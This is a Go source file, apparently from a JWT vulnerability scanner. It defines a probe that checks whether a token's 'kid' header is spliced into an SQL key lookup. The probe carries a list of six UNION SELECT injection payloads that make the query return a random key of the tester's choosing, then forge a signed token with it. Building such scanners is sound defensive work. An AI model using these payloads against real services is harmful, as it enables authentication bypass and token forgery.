package scan

import (
	"context"
	"encoding/hex"
	"fmt"

	"github.com/jotsight/jotsight/internal/catalog"
	"github.com/jotsight/jotsight/internal/finding"
)

var _ = add(Probe{
	Name:     "kid-sql",
	Weakness: catalog.KIDInjection,
	Title:    "a kid that makes the key's query give a key of ours",
	Stage:    StageKey,
	Needs:    []Need{NeedJWT},
	Requests: requests(keyedRequests(len(unions))),
	Truth:    hostileKID,
	Silent:   catalog.SilentVerifyFailure,
	Alert:    catalog.ForgedAlgorithm,
	Run: func(ctx context.Context, a *attempt) {
		r := a.run
		header := r.token.Header.Set("alg", r.shared())
		var attacks []keyed
		for _, u := range unions {
			// A key that nobody has used: a word might be the service's own.
			key := hex.EncodeToString(randomKey())
			other := hex.EncodeToString(randomKey())
			attacks = append(attacks, keyed{name: u.name, header: header.Set("kid", fmt.Sprintf(u.kid, key)), key: []byte(key),
				elsewhere: header.Set("kid", fmt.Sprintf(u.kid, other))})
		}
		if hit := a.keyed(ctx, "a token signed with a key that its kid brings into a query", attacks...); hit != nil {
			a.find(catalog.KIDInjection, finding.Certain, "kid becomes part of a query, and the query gives the attacker's key (CWE-89)", a.result.Why)
			a.signs("a key that kid brings into a query", hit)
		}
	},
})

// unions read nothing and change nothing: each asks the database for one row of
// constants, in one of the shapes in which a key is looked up.
var unions = []struct{ name, kid string }{
	{"UNION after a single quote, one column", `x' UNION SELECT '%[1]s' -- `},
	{"UNION after a single quote, two columns", `x' UNION SELECT '%[1]s','%[1]s' -- `},
	{"UNION after a single quote, three columns", `x' UNION SELECT '%[1]s','%[1]s','%[1]s' -- `},
	{"UNION after a single quote in brackets", `x') UNION SELECT '%[1]s' -- `},
	{"UNION after a double quote", `x" UNION SELECT '%[1]s' -- `},
	{"UNION after a number", `0 UNION SELECT '%[1]s' -- `},
}
